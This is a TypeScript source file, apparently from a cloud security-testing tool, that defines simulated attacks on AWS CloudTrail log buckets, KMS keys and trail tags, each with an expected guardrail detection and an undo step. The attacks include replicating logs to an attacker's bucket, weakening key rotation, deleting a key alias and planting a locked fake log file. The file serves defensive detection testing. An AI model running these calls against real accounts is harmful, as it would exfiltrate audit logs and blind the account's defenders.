/** Attacks on what keeps the logs and on how they are found: where else they go, whose they are, how they are locked. */
import { parseArn } from '../facts/arn';
import { TECHNIQUES, type Answer, type Attack, type Call, type Service } from './attack';
import type { Target } from './target';

const call = (service: Service, operation: string, input: Call['input']): Call => ({ service, operation, input });

const detected = (guardrail: string, path: string) => ({ kind: 'detected', guardrail, path }) as const;

const OWNER = 'wormtrail:owner';

/** A name that belongs to nobody in the account. */
function bucketArn({ evidenceBucket, trailArn }: Target): string {
  return `arn:${parseArn(trailArn)?.partition}:s3:::${evidenceBucket}`;
}

function roleArn({ trailArn }: Target, role: string): string {
  const { partition, account } = parseArn(trailArn) ?? {};
  return `arn:${partition}:iam::${account}:role/${role}`;
}

const first = (answer: Answer | undefined, list: string): Answer | undefined =>
  (answer?.[list] as readonly Answer[] | undefined)?.[0];

export const STORED_ATTACKS: readonly Attack[] = [
  {
    id: 'announce-log-files',
    title: 'Send the events of the log bucket elsewhere',
    gain: 'The attacker learns of every log file the moment it is delivered.',
    threat: TECHNIQUES.transferToCloudAccount,
    outcome: detected('Drift', 'NotificationConfiguration'),
    calls: ({ logBucket: Bucket }) => [
      call('s3api', 'PutBucketNotificationConfiguration', {
        Bucket,
        NotificationConfiguration: { EventBridgeConfiguration: {} },
      }),
    ],
    undo: ({ logBucket: Bucket }) => [
      call('s3api', 'PutBucketNotificationConfiguration', { Bucket, NotificationConfiguration: {} }),
    ],
  },
  {
    id: 'replicate-log-files',
    title: 'Replicate the log bucket elsewhere',
    gain: 'Every log file is copied to a bucket of the attacker.',
    threat: TECHNIQUES.transferToCloudAccount,
    outcome: detected('Drift', 'ReplicationConfiguration'),
    calls: (target) => [
      call('s3api', 'PutBucketReplication', {
        Bucket: target.logBucket,
        ReplicationConfiguration: {
          Role: roleArn(target, 'replication'),
          Rules: [
            {
              ...{ ID: 'all', Status: 'Enabled', Priority: 1, Filter: { Prefix: '' } },
              DeleteMarkerReplication: { Status: 'Disabled' },
              Destination: { Bucket: bucketArn(target) },
            },
          ],
        },
      }),
    ],
    undo: ({ logBucket: Bucket }) => [call('s3api', 'DeleteBucketReplication', { Bucket })],
  },
  {
    id: 'rename-bucket-owner',
    title: 'Give the log bucket the tags of another owner',
    gain: 'What is found on the bucket is told to the wrong people.',
    threat: TECHNIQUES.impairDefenses,
    outcome: detected('Drift', 'Tags'),
    before: ({ logBucket: Bucket }) => [call('s3api', 'GetBucketTagging', { Bucket })],
    calls: ({ logBucket: Bucket }) => [
      call('s3api', 'PutBucketTagging', { Bucket, Tagging: { TagSet: [{ Key: OWNER, Value: 'engineering' }] } }),
    ],
    undo: ({ logBucket: Bucket }, { before: [tags] }) => [
      call('s3api', 'PutBucketTagging', { Bucket, Tagging: { TagSet: tags?.TagSet } }),
    ],
  },
  {
    id: 'deliver-in-governance-mode',
    title: 'Write a log file that is locked in GOVERNANCE mode',
    gain: 'A log file of the attacker that the bypass permission deletes again stands among the others.',
    threat: TECHNIQUES.storedDataManipulation,
    outcome: { kind: 'detected', guardrail: 'NewestObjectsLocked' },
    calls: ({ logBucket, logFile }) => [
      call('s3api', 'PutObject', {
        ...{ Bucket: logBucket, Key: logFile.key.replace(/[^_]+$/, 'Governed.json.gz'), Body: 'x' },
        ...{ ObjectLockMode: 'GOVERNANCE', ObjectLockRetainUntilDate: new Date(Date.now() + 86_400_000) },
      }),
    ],
    // a file that is delivered later is the newest then
    undo: ({ logBucket, logFile }) => [
      call('s3api', 'PutObject', {
        ...{ Bucket: logBucket, Key: logFile.key.replace(/[^_]+$/, 'Delivered.json.gz'), Body: 'x' },
      }),
    ],
  },
  {
    id: 'rename-key-owner',
    title: 'Give the key the tags of another owner',
    gain: 'What is found on the key is told to the wrong people.',
    threat: TECHNIQUES.impairDefenses,
    outcome: detected('Drift', 'Tags'),
    calls: ({ key: KeyId }) => [
      call('kms', 'TagResource', { KeyId, Tags: [{ TagKey: OWNER, TagValue: 'engineering' }] }),
    ],
    undo: ({ key: KeyId }) => [call('kms', 'TagResource', { KeyId, Tags: [{ TagKey: OWNER, TagValue: 'security' }] })],
  },
  {
    id: 'rotate-key-rarely',
    title: 'Rotate the key once in seven years',
    gain: 'Rotation is on, and one leaked key material opens the logs of years.',
    threat: TECHNIQUES.impairDefenses,
    outcome: detected('Drift', 'RotationPeriodInDays'),
    calls: ({ key: KeyId }) => [call('kms', 'EnableKeyRotation', { KeyId, RotationPeriodInDays: 2560 })],
    undo: ({ key: KeyId }) => [call('kms', 'EnableKeyRotation', { KeyId, RotationPeriodInDays: 365 })],
  },
  {
    id: 'delete-key-alias',
    title: 'Delete the alias of the key',
    gain: 'The alias can then lead to a key of the attacker.',
    threat: TECHNIQUES.impairDefenses,
    outcome: { kind: 'detected', guardrail: 'ResourceRemoved' },
    before: ({ key: KeyId }) => [call('kms', 'ListAliases', { KeyId })],
    calls: ({ stack }, [aliases]) => [
      call('kms', 'DeleteAlias', { AliasName: first(aliases, 'Aliases')?.AliasName ?? `alias/${stack}` }),
    ],
    undo: ({ key }, { before: [aliases] }) => [
      call('kms', 'CreateAlias', { AliasName: first(aliases, 'Aliases')?.AliasName, TargetKeyId: key }),
    ],
  },
  {
    id: 'rename-trail-owner',
    title: 'Give the trail the tags of another owner',
    gain: 'What is found on the trail is told to the wrong people.',
    threat: TECHNIQUES.impairDefenses,
    outcome: detected('Drift', 'Tags'),
    calls: ({ trailArn: ResourceId }) => [
      call('cloudtrail', 'RemoveTags', { ResourceId, TagsList: [{ Key: OWNER, Value: 'security' }] }),
      call('cloudtrail', 'AddTags', { ResourceId, TagsList: [{ Key: OWNER, Value: 'engineering' }] }),
    ],
    undo: ({ trailArn: ResourceId }) => [
      call('cloudtrail', 'RemoveTags', { ResourceId, TagsList: [{ Key: OWNER, Value: 'engineering' }] }),
      call('cloudtrail', 'AddTags', { ResourceId, TagsList: [{ Key: OWNER, Value: 'security' }] }),
    ],
  },
];
